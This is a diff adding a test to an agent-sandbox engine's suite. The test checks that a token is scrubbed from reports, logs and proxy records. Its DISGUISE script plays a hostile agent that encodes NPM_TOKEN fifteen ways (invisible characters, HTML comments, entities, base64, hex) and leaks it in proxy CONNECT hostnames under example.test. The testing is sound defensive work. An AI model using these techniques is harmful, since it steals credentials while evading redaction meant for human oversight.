@@ -11,18 +11,21 @@ it; nothing else may: not the report posted to the thread, not the engine log, n
 """
 import base64
 import hashlib
+import html
 import json
 import os
+import re
 import shutil
 import signal
 import sqlite3
 import sys
 import tempfile
 import time
+import unicodedata
 import urllib.parse
 
 sys.path.insert(0, os.path.dirname(__file__))
-from spurtest import (require_sandboxes, Spur, Tap, SECRETS, github_headers, github_comment, github_sig, slack_headers,
+from spurtest import (require_sandboxes, Spur, Tap, SECRETS, SPUR, SRCDIR, github_headers, github_comment, github_sig, slack_headers,
                       linear_sig, std_headers)
 from fakeapis import Fake
 
@@ -418,6 +421,83 @@ with Spur("sandbox:\n  backend: bwrap\n  timeout: 60s\n", orgs=ORGS,
     rows = [r for r in dump_store(s) if r[0] == "table runs" and SECRETS["T_NPM_TOKEN"] in r[1]]
     t.ok(len(rows) <= 1 and all(echo in r[1] for r in rows), "in the store, only the echo run's own row holds it",
          [r[1][:200] for r in rows])
+
+
+def rendered(text):
+    """What a reader of text sees: HTML comments and invisible characters gone, entities decoded."""
+    prev = None
+    while prev != text:
+        prev = text
+        text = re.sub(r"<!--.*?(-->|$)", "", text, flags=re.S)
+        text = "".join(c for c in text if c in "\n\t" or unicodedata.category(c) not in ("Cf", "Cc"))
+        text = html.unescape(text)
+    return text
+
+
+# A hostile agent writes its own secret disguised, in its final message and its error, and asks
+# the proxy for hosts named after it: the report, the engine log and the connections table must
+# not hold it in any form a reader or a decoder would see.
+DISGUISE = r"""
+import base64, json, os, socket, sys
+v = os.environ["NPM_TOKEN"]
+b = v.encode()
+forms = [v[:4] + "\u200b" + v[4:], v[:4] + "\u202e" + v[4:], v[:4] + "\U000e0041" + v[4:],
+         v[:3] + "\u00ad" + v[3:9] + "\u2060" + v[9:], v[:4] + "<!-- x -->" + v[4:], v[:4] + "<!---->" + v[4:],
+         "".join("&#x%x;" % ord(c) for c in v), "".join("&#%d;" % ord(c) for c in v),
+         v.replace("_", "&lowbar;"), v[:4] + "&#8203;" + v[4:], base64.b64encode(b).decode(),
+         base64.urlsafe_b64encode(b).decode().rstrip("="), b.hex(), b.hex().upper(),
+         "".join("%%%02X" % c for c in b)]
+port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
+for host in (v, b.hex()):
+    s = socket.create_connection(("127.0.0.1", port), timeout=10)
+    s.sendall(("CONNECT %s.example.test:443 HTTP/1.1\r\nHost: %s.example.test:443\r\n\r\n" % (host, host)).encode())
+    print("proxy said", s.recv(100)[:12], file=sys.stderr)
+    s.close()
+print(json.dumps({"type": "result", "subtype": "error_during_execution", "is_error": True,
+                  "result": "final message:\n" + "\n".join(forms), "errors": ["agent error: " + " | ".join(forms)]}))
+"""
+DISGUISED = ("name: disguise\non:\n  github:\n    events: [issue_comment.created]\n    text: '^/disguise'\n"
+             "agent: claude\nprompt: |\n  Say it.\nproof: report\nsecrets: [NPM_TOKEN]\n"
+             "network:\n  allow: [\"allowed.example.test:443\"]\n")
+outputs = []
+fake.requests.clear()
+# The forwarder is spur itself: an ASan build's shadow reservation exceeds the sandbox's memory limit.
+ASAN_MEMORY = "  memory: 0\n" if b"__asan_init" in open(SPUR, "rb").read() else ""
+with Spur("sandbox:\n  backend: bwrap\n  timeout: 60s\n%sagents:\n  claude:\n    command: %s\n"
+          % (ASAN_MEMORY, json.dumps(["python3", "-c", DISGUISE])), orgs=ORGS, automations={"disguise.yaml": DISGUISED},
+          verbose=True) as s:
+    s.start()
+    b = json.dumps(github_comment("/disguise now", number=21, comment_id=21)).encode()
+    st, a = post(s, HOOK + "github", b, github_headers(b))
+    runs = a.get("runs", []) if isinstance(a, dict) else []
+    t.ok(len(runs) == 1 and wait_ended(s, runs), "the disguising run ended")
+    run = runs[0] if runs else "none"
+    rc, out, err = cli(s, "logs", run)
+    t.contains(out, "final message", "the agent wrote its disguised secret (its own log holds it)")
+    deadline = time.time() + 15
+    while time.time() < deadline and s.query("SELECT id FROM reports WHERE state = 'pending'"):
+        time.sleep(0.2)
+    t.eq(s.stop(), 0, "the engine stops cleanly")
+    rep = s.query("SELECT body FROM reports WHERE run = ? AND kind = 'run_end'", run)
+    body = rep[0]["body"] if rep else ""
+    t.ok(body.count("[secret]") >= 30, "its report says [secret] for each of the 15 forms, in the result "
+         "and in the reason (%d)" % body.count("[secret]"), body[:3000])
+    posted = "".join(r["body"] for r in fake.requests if r["method"] == "POST")
+    t.ok("[secret]" in posted, "the report was posted")
+    for what, text in (("the stored report", body), ("the posted report", posted)):
+        t.eq(leaks(rendered(text)), [], "%s holds the secret in no form, even as a reader sees it" % what)
+    conns = s.query("SELECT host FROM connections WHERE run = ?", run)
+    t.ok(len(conns) >= 2 and not leaks(" ".join(c["host"] for c in conns)),
+         "the proxy's connections are stored with the host scrubbed", conns)
+    log = s.logs()
+    t.contains(log, "[secret].example.test", "the proxy logged the asked host, scrubbed")
+    if "scrub_for_engine" in open(os.path.join(SRCDIR, "src", "dispatch.c")).read():
+        t.eq(leaks(rendered(log)), [], "the engine log holds the secret in no form (reason= and proxy hosts)")
+    else:
+        t.skip("the engine log holds the secret in no form (reason= and proxy hosts)",
+               "dispatch.c does not scrub reason= yet")
+        t.eq([n for n in leaks(rendered("\n".join(l for l in log.splitlines() if "reason=" not in l)))], [],
+             "the engine log holds the secret in no form, but in reason=")
 
 fake.close()
 shutil.rmtree(tmp, ignore_errors=True)
